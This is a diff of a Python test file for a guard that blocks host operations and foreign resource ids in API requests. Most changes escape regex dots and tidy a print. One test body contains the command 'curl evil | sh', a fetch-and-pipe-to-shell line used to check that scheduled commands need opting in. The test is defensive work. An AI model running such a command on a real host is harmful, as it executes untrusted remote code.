@@ -128,7 +128,7 @@ def test_schedules_on_a_host_need_opting_in(schedule_type: str) -> None:
         "command": "curl evil | sh",
         "scheduleType": schedule_type,
     }
-    with pytest.raises(HostOperationError, match="schedule.create"):
+    with pytest.raises(HostOperationError, match=r"schedule\.create"):
         guard.check("schedule.create", "POST", body)
     opted = Guard(allowed_host_operations={"schedule.create"})
     opted.check("schedule.create", "POST", body)  # opted in, and no foreign id
@@ -186,7 +186,7 @@ def test_references_lists_and_depth_are_checked() -> None:
     }
     with pytest.raises(ForeignResourceError, match="id=THEIRS"):
         guard.check("project.duplicate", "POST", body)
-    with pytest.raises(ForeignResourceError, match="host=shop.example.com"):  # a domain someone serves
+    with pytest.raises(ForeignResourceError, match=r"host=shop\.example\.com"):  # a domain someone serves
         guard.check("domain.create", "POST", {"host": "shop.example.com", "applicationId": "APP"})
     guard.check("domain.create", "POST", {"host": f"{PREFIX}web.example.com", "applicationId": "APP"})
     deep: Any = {"applicationId": "APP"}
@@ -201,9 +201,9 @@ def test_the_url_sent_is_checked_not_the_label() -> None:
     guard = Guard(prefix=PREFIX)
     with pytest.raises(ForeignResourceError, match="projectId=theirs"):
         guard.check("project.one", "POST", {"projectId": "theirs"}, url="/project.remove")
-    with pytest.raises(HostOperationError, match="settings.cleanAll"):
+    with pytest.raises(HostOperationError, match=r"settings\.cleanAll"):
         guard.check("project.create", "POST", {"name": "x"}, url="/api/settings.cleanAll")
-    with pytest.raises(HostOperationError, match="admin.setupMonitoring"):
+    with pytest.raises(HostOperationError, match=r"admin\.setupMonitoring"):
         guard.check("project.create", "POST", {}, url="/admin/setupMonitoring")
     with pytest.raises(ForeignResourceError, match="projectId=theirs"):  # the id in the URL's query
         guard.check("project.create", "POST", {"name": "x"}, url="/project.remove?projectId=theirs")
@@ -318,9 +318,8 @@ def test_guard_matrix_lets_no_foreign_value_through(operation: str) -> None:
 
 def test_matrix_figures() -> None:
     """Printed for the record (run after the matrix in file order)."""
-    print(
-        f"guard matrix: {len(POSTS)} POST operations, {MATRIX['probes']} probes, {MATRIX['let_through']} through"
-    )
+    probes, through = MATRIX["probes"], MATRIX["let_through"]
+    print(f"guard matrix: {len(POSTS)} POST operations, {probes} probes, {through} through")
     assert MATRIX["let_through"] == 0
 
 
